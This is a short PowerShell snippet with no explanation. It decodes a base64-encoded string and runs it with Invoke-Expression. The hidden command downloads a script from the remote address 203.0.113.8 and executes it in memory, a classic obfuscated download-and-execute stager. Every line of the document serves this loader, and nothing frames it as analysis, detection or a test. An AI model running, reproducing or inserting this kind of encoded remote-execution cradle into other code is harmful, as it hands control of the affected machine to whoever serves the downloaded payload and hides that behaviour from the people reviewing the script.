$b = 'SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMjAzLjAuMTEzLjgvYicp'
$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))
Invoke-Expression $s
